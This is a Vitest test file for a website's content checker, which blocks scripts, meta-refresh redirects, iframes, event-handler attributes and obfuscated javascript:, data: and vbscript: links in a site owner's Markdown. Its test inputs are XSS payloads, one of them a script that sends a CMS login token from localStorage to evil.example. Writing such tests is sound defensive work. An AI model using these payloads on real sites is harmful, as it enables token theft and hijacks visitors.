import { readFileSync, rmSync, writeFileSync } from "node:fs"
import { join } from "node:path"

import { afterEach, describe, expect, it } from "vitest"

import { markupProblems } from "../../src/lib/content/safe-html"
import { copyOfContent as copyOfContentAt } from "../../tests/setup/content-copy"
import { checkContent } from "./content-check"

// The content check on what the owner's Markdown could smuggle into a page (issue 57, decision 029), in the spellings of
// the security review: the file, the field and a plain reason.
const SCRIPT = "has a <script> tag: text cannot add scripts to the site, so remove it"
const REFRESH = "has a <meta http-equiv> tag, which can send visitors to another site: remove it"
const IFRAME =
  "has an <iframe>: text cannot show another site's page inside this one (the map and the quote form are the site's own embeds): remove it"
const link = (scheme: string) =>
  `has a link to a "${scheme}:" address, which can run code in a visitor's browser: link only to web addresses ` +
  "(https://…), e-mail (mailto:), phone numbers (tel:) or this site's own pages"
const handler = (name: string) => `has an "${name}" attribute, which runs a script: remove it`

let root = ""
afterEach(() => {
  if (root) rmSync(root, { recursive: true, force: true })
  root = ""
})

function copyOfContent() {
  root = copyOfContentAt("content-markup-")
  return root
}

describe("markupProblems", () => {
  it.each([
    ["<script>alert(1)</script>", SCRIPT],
    ["Text <SCRIPT src=https://evil.example/x.js></SCRIPT> text", SCRIPT],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', REFRESH],
    ["<META HTTP-EQUIV=Refresh CONTENT='0;URL=https://evil.example'>", REFRESH],
    ['<iframe src="https://evil.example"></iframe>', IFRAME],
    ["<img src=x onerror=alert(1)>", handler("onerror")],
    ["<img/ONERROR=alert(1) src=x>", handler("onerror")],
    ['Hover <b onmouseover="alert(1)">here</b>', handler("onmouseover")],
    ["[plain](javascript:alert(1))", link("javascript")],
    ["[entity](&#106;avascript:alert(1))", link("javascript")],
    ["[hex](&#x6a;avascript:alert(1))", link("javascript")],
    ["[tab](jav&#x09;ascript:alert(1))", link("javascript")],
    ["[tab as is](<jav\tascript:alert(1)>)", link("javascript")],
    ["[padded](< javascript:alert(1)>)", link("javascript")],
    ["[mixed case](JaVaScRiPt:alert(1))", link("javascript")],
    ["<javascript:alert(1)>", link("javascript")],
    ["[ref][r]\n\n[r]: javascript:alert(1)", link("javascript")],
    ['<a href="&#106;ava&#x09;script:alert(1)">raw</a>', link("javascript")],
    ["[data](data:text/html;base64,PHNjcmlwdD4=)", link("data")],
    ["[data](DATA:text/html,x)", link("data")],
    ["[vb](vbscript:msgbox(1))", link("vbscript")],
    ["[vb](&#118;bscript:msgbox(1))", link("vbscript")],
    ["![picture](javascript:alert(1))", link("javascript")],
  ])("refuses %j", (markdown, problem) => {
    expect(markupProblems(markdown)).toEqual([problem])
  })

  it("passes plain text, links to the site, the web, e-mail and the phone, inert tags and code about HTML", () => {
    const markdown = [
      "A [page](/residential), [part](#why) [web](https://example.com) [mail](mailto:a@example.com) [call](tel:+61491570156).",
      'Press <kbd>Ctrl</kbd>; <abbr title="High-efficiency particulate air">HEPA</abbr>.',
      "Write `<script>` in code, or:",
      "",
      "```html",
      '<script>alert(1)</script><meta http-equiv="refresh">',
      "```",
      "",
      "The word javascript: on its own, and a javascript:alert(1) in text, is no link.",
    ].join("\n")
    expect(markupProblems(markdown)).toEqual([])
  })

  it("refuses a heading's {…} that sets more than an anchor, on its line", () => {
    expect(markupProblems('Intro\n\n## Book now {style="position:fixed;inset:0"}\n\n### Tips {.fixed #tips}')).toEqual([
      `line 3: the heading's {…} sets "style", which could change how the page looks: only an anchor like {#cleaning-tips} may follow a heading, so remove the rest`,
      `line 5: the heading's {…} sets "class", which could change how the page looks: only an anchor like {#cleaning-tips} may follow a heading, so remove the rest`,
    ])
    expect(markupProblems("## Tips {#Tips_1}", 10)).toEqual([
      `line 10: the heading's anchor "#Tips_1" may hold only small letters, digits and hyphens (like #cleaning-tips)`,
    ])
    expect(markupProblems("## Why 0.3 microns matter {#why-0-3-microns}\n\nText {style=x} is text.")).toEqual([])
  })

  it("says each problem once, however often it occurs", () => {
    expect(markupProblems("<script>a</script>\n\n<script>b</script>\n\n[x](javascript:1) [y](javascript:2)")).toEqual([
      SCRIPT,
      link("javascript"),
    ])
  })
})

describe("the content check on the owner's Markdown", () => {
  it("refuses an article with a script and a refresh, naming the file and its text", () => {
    const file = join(copyOfContent(), "content/blog/hepa-filters-clean-home.md")
    const article = readFileSync(file, "utf8")
    writeFileSync(
      file,
      `${article}\n<script>fetch("https://evil.example/?t="+localStorage.getItem("decap-cms-user"))</script>\n\n` +
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n[Win](&#106;avascript:alert(1))\n',
    )
    expect(checkContent(root, "content")).toEqual([
      `${file}: (article text): ${SCRIPT}`,
      `${file}: (article text): ${REFRESH}`,
      `${file}: (article text): ${link("javascript")}`,
    ])
  })

  it("refuses an article heading with a style, naming the file and the line in it", () => {
    const file = join(copyOfContent(), "content/blog/hepa-filters-clean-home.md")
    const lines = readFileSync(file, "utf8").split("\n")
    const at = lines.findIndex((line) => line.startsWith("## "))
    lines[at] = '## Covering the page {style="position:fixed;inset:0"}'
    writeFileSync(file, lines.join("\n"))
    expect(checkContent(root, "content")).toEqual([
      `${file}: (article text): line ${at + 1}: the heading's {…} sets "style", which could change how the page looks: only an anchor like {#cleaning-tips} may follow a heading, so remove the rest`,
    ])
  })

  it("refuses an owner page whose text links to javascript:, data: and vbscript:, naming the section", () => {
    const dir = join(copyOfContent(), "content/owner-pages")
    const page = JSON.parse(readFileSync("tests/fixtures/content-every-option/owner-pages/every-section.json", "utf8"))
    const at = page.sections.findIndex((section: { type: string }) => section.type === "text")
    page.sections[at].body =
      "[a](javascript:alert(1)) [b]( javascript:alert(1)) [c](jav&#x09;ascript:alert(1)) [d](data:text/html,x) [e](vbscript:x)"
    writeFileSync(join(dir, "every-section.json"), JSON.stringify(page))
    const field = `${join(dir, "every-section.json")}: sections[${at}].body`
    // The item's note ("the 2nd in its list") is itemNote's, tested in content-check.test.ts.
    expect(checkContent(root, "content").map((problem) => problem.replace(/ \(the [^)]*\)/, ""))).toEqual([
      `${field}: ${link("javascript")}`,
      `${field}: ${link("data")}`,
      `${field}: ${link("vbscript")}`,
    ])
  })
})
